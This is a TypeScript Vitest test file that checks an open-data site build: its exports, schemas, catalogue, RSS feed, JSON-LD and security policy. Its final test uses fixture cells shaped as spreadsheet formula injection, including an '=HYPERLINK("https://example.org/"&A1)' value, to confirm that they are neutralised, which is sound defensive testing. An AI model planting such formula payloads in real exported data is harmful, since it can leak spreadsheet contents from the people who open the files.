import { existsSync, readdirSync, statSync } from 'node:fs';
import path from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import { parse } from 'csv-parse/sync';
import { XMLParser } from 'fast-xml-parser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { repo } from '../helpers.ts';
import { readContent } from '../support/content.ts';
import { fixtureSite, mainSite, openSite, readBuilt, type BuiltSite } from '../support/site.ts';

const collections = ['practices', 'tools', 'reports', 'regions', 'themes'] as const;
type Collection = (typeof collections)[number];
type Node = Record<string, any>;

const contentDir = process.env['ATLAS_CONTENT'] ? path.resolve(repo, process.env['ATLAS_CONTENT']) : path.join(repo, 'content');

function idsIn(dir: string): Record<Collection, string[]> {
  const content = readContent(dir);
  return {
    practices: content.practices.map((e) => e.id).sort(),
    tools: content.tools.map((e) => e.id).sort(),
    reports: content.reports.map((e) => e.id).sort(),
    regions: content.regions.map((e) => e.id).sort(),
    themes: content.themes.map((e) => e.id).sort(),
  };
}

/** Every .csv file under a folder. */
const csvFilesIn = (dir: string): string[] =>
  readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? csvFilesIn(path.join(dir, e.name)) : e.name.endsWith('.csv') ? [path.join(dir, e.name)] : [])).sort();

const jsonRecords = (site: BuiltSite, c: Collection) => JSON.parse(readBuilt(site, `data/${c}.json`)) as Node[];
const csvRows = (site: BuiltSite, c: Collection) => parse(readBuilt(site, `data/${c}.csv`), { bom: true, columns: true }) as Record<string, string>[];

/** The file a URL of the built site points to, or undefined when it is not on this site. */
function fileOf(site: BuiltSite, url: string, root: string): string | undefined {
  if (!url.startsWith(root)) return undefined;
  return path.join(site.dir, decodeURIComponent(url.slice(root.length)));
}

function expectIdsMatch(site: BuiltSite, expected: Record<Collection, string[]>) {
  for (const c of collections) {
    expect(jsonRecords(site, c).map((r) => r['id']), `${c}.json`).toEqual(expected[c]);
    expect(csvRows(site, c).map((r) => r['id']), `${c}.csv`).toEqual(expected[c]);
  }
}

function expectCatalogMatchesFiles(site: BuiltSite) {
  const catalog = JSON.parse(readBuilt(site, 'data/catalog.jsonld')) as Node;
  const root = catalog['foaf:homepage']['@id'] as string;
  expect(catalog['@type']).toBe('dcat:Catalog');
  const datasets = catalog['dcat:dataset'] as Node[];
  expect(datasets.map((d) => d['dct:identifier']).sort()).toEqual([...collections].sort());
  let checked = 0;
  for (const dataset of datasets) {
    for (const distribution of dataset['dcat:distribution'] as Node[]) {
      const file = fileOf(site, distribution['dcat:downloadURL']['@id'], root);
      expect(file, distribution['dcat:downloadURL']['@id']).toBeDefined();
      expect(existsSync(file!), file).toBe(true);
      expect(distribution['dcat:byteSize']['@value'], file).toBe(statSync(file!).size);
      const schema = distribution['dct:conformsTo']?.['@id'] as string | undefined;
      if (schema) expect(existsSync(fileOf(site, schema, root)!), schema).toBe(true);
      checked++;
    }
  }
  expect(checked).toBe(collections.length * 2);
  return catalog;
}

function validateAgainstPublishedSchemas(site: BuiltSite) {
  const ajv = new Ajv2020({ allErrors: true, strict: true });
  addFormats.default(ajv);
  for (const c of collections) {
    const schema = JSON.parse(readBuilt(site, `data/schema/${c}.schema.json`));
    const validate = ajv.compile(schema);
    validate(jsonRecords(site, c));
    expect(validate.errors ?? [], `${c}.json against ${c}.schema.json`).toEqual([]);
  }
}

function jsonLdOf(html: string): Node {
  const match = /<script type="application\/ld\+json">([\s\S]*?)<\/script>/.exec(html);
  expect(match, 'a JSON-LD block').not.toBeNull();
  return JSON.parse(match![1]!);
}

const metaContent = (html: string, attr: 'name' | 'property', name: string) =>
  [...html.matchAll(new RegExp(`<meta ${attr}="${name.replace('.', '\\.')}" content="([^"]*)"`, 'g'))].map((m) => m[1]);

describe('open data of the main build', () => {
  const site = mainSite();
  const content = readContent(contentDir);

  it('JSON and CSV of every collection hold exactly the ids in the content folder', () => {
    expectIdsMatch(site, idsIn(contentDir));
  });

  it('every JSON record validates against its published JSON Schema (ajv)', () => {
    validateAgainstPublishedSchemas(site);
  });

  it('the catalogue\'s distributions point at files that exist, with their real byte sizes', () => {
    const catalog = expectCatalogMatchesFiles(site);
    expect(catalog['dct:license']['@id']).toBe('http://publications.europa.eu/resource/authority/licence/CC_BY_4_0');
    expect(catalog['dct:license']['foaf:page']['@id']).toBe('https://creativecommons.org/licenses/by/4.0/');
    expect(catalog['dct:publisher']['foaf:name']).toBe('CIVITEC');
    const countries = new Set(content.regions.map((r) => r.data['country']));
    expect((catalog['dct:spatial'] as Node[]).length).toBe(countries.size);
    for (const s of catalog['dct:spatial'] as Node[]) expect(s['@id']).toMatch(/^http:\/\/publications\.europa\.eu\/resource\/authority\/country\/[A-Z]{3}$/);
  });

  it('a tool\'s deployments are the practices that reference it', () => {
    for (const tool of jsonRecords(site, 'tools')) {
      const expected = content.practices.filter((p) => (p.data['tools'] as string[]).includes(tool['id'])).map((p) => p.id).sort();
      expect(tool['deployments'], tool['id']).toEqual(expected);
    }
  });

  it('the RSS feed parses and lists the newest practices and reports first', () => {
    const xml = readBuilt(site, 'rss.xml');
    const feed = new XMLParser({ ignoreAttributes: false }).parse(xml, true) as Node;
    const raw = feed['rss']['channel']['item'];
    const items = (Array.isArray(raw) ? raw : raw ? [raw] : []) as Node[];
    const dated = [
      ...content.practices.map((p) => ({ kind: 'practices', id: p.id, date: String(p.data['updated']) })),
      ...content.reports.map((r) => ({ kind: 'reports', id: r.id, date: String(r.data['date']) })),
    ].sort((a, b) => b.date.localeCompare(a.date));
    expect(items.length).toBe(Math.min(20, dated.length));
    const dates = items.map((i) => Date.parse(i['pubDate']));
    expect(dates).toEqual([...dates].sort((a, b) => b - a));
    if (dated.length) {
      const newest = dated.filter((d) => d.date === dated[0]!.date).map((d) => `/${d.kind}/${d.id}/`);
      expect(newest.some((p) => String(items[0]!['link']).endsWith(p))).toBe(true);
      expect(new Date(dates[0]!).toISOString().slice(0, 10)).toBe(dated[0]!.date);
    }
  });

  it('a practice page carries JSON-LD naming the practice, citation, Dublin Core and OpenGraph meta', () => {
    const practice = content.practices[0]!;
    const html = readBuilt(site, `practices/${practice.id}/index.html`);
    const ld = jsonLdOf(html);
    expect(ld['@context']).toBe('https://schema.org');
    expect(ld['name']).toBe(practice.data['title']);
    expect(ld['spatialCoverage']['@type']).toBe('Place');
    const decode = (s: string | undefined) => (s ?? '').replace(/&amp;/g, '&').replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&lt;/g, '<').replace(/&gt;/g, '>');
    expect(decode(metaContent(html, 'name', 'citation_title')[0])).toBe(practice.data['title']);
    expect(metaContent(html, 'name', 'citation_author').map(decode)).toEqual(practice.data['contributors']);
    expect(metaContent(html, 'name', 'DC.date')).toEqual([String(practice.data['updated'])]);
    expect(metaContent(html, 'name', 'DC.rights')).toEqual(['https://creativecommons.org/licenses/by/4.0/']);
    expect(decode(metaContent(html, 'property', 'og:description')[0])).toBe(practice.data['summary']);
    expect(metaContent(html, 'property', 'og:url')[0]).toMatch(new RegExp(`/practices/${practice.id}/$`));
    expect(html).toContain('<link rel="alternate" type="application/rss+xml"');
  });

  it('every entry page has a JSON-LD block of the right type', () => {
    const types: Record<Collection, string> = { practices: 'CreativeWork', tools: 'SoftwareApplication', reports: 'Event', regions: 'Place', themes: 'DefinedTerm' };
    const ids = idsIn(contentDir);
    for (const c of collections) {
      for (const id of ids[c].slice(0, 3)) {
        const ld = jsonLdOf(readBuilt(site, `${c}/${id}/index.html`));
        expect([ld['@type']].flat(), `${c}/${id}`).toContain(types[c]);
      }
    }
  });

  it('the sitemap and the data page are built, and the data page links every file', () => {
    expect(readBuilt(site, 'sitemap-index.xml')).toContain('sitemap-0.xml');
    expect(readBuilt(site, 'sitemap-0.xml')).toContain('/data/</loc>');
    const page = readBuilt(site, 'data/index.html');
    for (const c of collections) {
      for (const file of [`data/${c}.json`, `data/${c}.csv`, `data/schema/${c}.schema.json`]) expect(page).toContain(`href="/${file}"`);
    }
    expect(page).toContain('href="/data/catalog.jsonld"');
  });

  it('no build time in the output: a second read of the catalogue dates comes from content only', () => {
    const catalog = readBuilt(site, 'data/catalog.jsonld');
    const today = new Date().toISOString().slice(0, 10);
    const contentDates = JSON.stringify(readContent(contentDir));
    if (!contentDates.includes(today)) expect(catalog).not.toContain(today);
  });
});

describe('JSON-LD and the Content-Security-Policy in a browser', () => {
  let open: Awaited<ReturnType<typeof openSite>>;
  beforeAll(async () => {
    open = await openSite(mainSite());
  });
  afterAll(async () => open?.close());

  it('a practice page reports no CSP violation and its JSON-LD parses in the page', async () => {
    const practice = readContent(contentDir).practices[0]!;
    const problems: string[] = [];
    open.page.on('console', (m) => {
      if (/Content.Security.Policy/i.test(m.text())) problems.push(m.text());
    });
    await open.page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (e) => console.error(`Content-Security-Policy violation: ${e.violatedDirective} ${e.blockedURI}`));
    });
    await open.page.goto(`${open.server.url}practices/${practice.id}/`);
    const name = await open.page.evaluate(() => JSON.parse(document.querySelector('script[type="application/ld+json"]')!.textContent!).name);
    expect(name).toBe(practice.data['title']);
    expect(problems).toEqual([]);
  });
});

describe('open data of the fixture build, with more practices, under a base path', () => {
  // The shared fixture build (tests/support/fixture-site.ts): the valid fixture, a practice whose text
  // fields start like spreadsheet formulas in a new region with a negative longitude, and one more practice.
  const { content, ...site } = fixtureSite();

  it('the exports hold the new id along with the others', () => {
    const expected = idsIn(content);
    expect(expected.practices).toContain('added-practice');
    expectIdsMatch(site, expected);
    const added = csvRows(site, 'practices').find((r) => r['id'] === 'added-practice')!;
    expect(added['title']).toBe('\'=Added practice, with a comma and "quotes"');
    expect(added['url']).toMatch(/\/kb\/practices\/added-practice\/$/);
    const tool = jsonRecords(site, 'tools').find((t) => t['id'] === 'fixture-tool')!;
    expect(tool['deployments']).toEqual(['added-practice', 'oulu-youth-budget', 'timisoara-budget']);
  });

  it('records validate, the catalogue sizes match the files, and the feed starts with the new practice', () => {
    validateAgainstPublishedSchemas(site);
    const catalog = expectCatalogMatchesFiles(site);
    expect(catalog['foaf:homepage']['@id']).toMatch(/\/kb\/$/);
    expect(catalog['dct:modified']['@value']).toBe('2026-05-04');
    const feed = new XMLParser().parse(readBuilt(site, 'rss.xml')) as Node;
    expect(feed['rss']['channel']['item'][0]['link']).toMatch(/\/kb\/practices\/added-practice\/$/);
    expect(readBuilt(site, 'data/index.html')).toContain('href="/kb/data/practices.csv"');
  });

  it('no CSV cell starts a spreadsheet formula: text gets a leading apostrophe, numbers stay numbers', () => {
    const files = csvFilesIn(site.dir).map((file) => path.relative(site.dir, file).split(path.sep).join('/'));
    expect(files).toEqual(expect.arrayContaining([...collections.map((c) => `data/${c}.csv`), 'tables/regions.csv', 'tables/theme-participatory-budgeting.csv']));
    let neutralised = 0;
    for (const file of files) {
      const rows = parse(readBuilt(site, file), { bom: true }) as string[][];
      for (const [i, row] of rows.entries()) {
        for (const cell of row) {
          if (cell.startsWith("'")) neutralised++;
          const isNumber = cell.trim() !== '' && Number.isFinite(Number(cell));
          if (!isNumber) expect(cell, `${file} row ${i + 1}`).not.toMatch(/^[=+\-@\t\r\0＝＋－＠]/);
        }
      }
    }
    expect(neutralised).toBeGreaterThanOrEqual(10);

    const added = csvRows(site, 'practices').find((r) => r['id'] === 'added-practice')!;
    expect(added).toMatchObject({
      summary: "'+A fixture practice whose text fields start like spreadsheet formulas.",
      city: "'-Porto",
      institution: "'@Fixture Municipality",
      stakeholders: '\'=HYPERLINK("https://example.org/"&A1); \tTabbed partner; Residents',
      'indicators.label': "'-Turnout change",
      'indicators.value': '-3.5',
      'sources.title': "'@Fixture source",
    });
    const norte = csvRows(site, 'regions').find((r) => r['id'] === 'norte')!;
    expect(norte).toMatchObject({ 'coordinates.latitude': '41.15', 'coordinates.longitude': '-8.61', 'partner.organisation': "'+Fixture Partner Agency" });
    // The JSON keeps the text as written.
    expect(jsonRecords(site, 'practices').find((r) => r['id'] === 'added-practice')!['title']).toBe('=Added practice, with a comma and "quotes"');
    // The tables' CSVs too: the practice's row in its theme's table.
    const themeRows = parse(readBuilt(site, 'tables/theme-participatory-budgeting.csv'), { bom: true }) as string[][];
    expect(themeRows.find((row) => row[0]!.includes('Added practice'))).toEqual(expect.arrayContaining(['\'=Added practice, with a comma and "quotes"', "'-Turnout change: -3.5 % (2020)"]));
  });
});
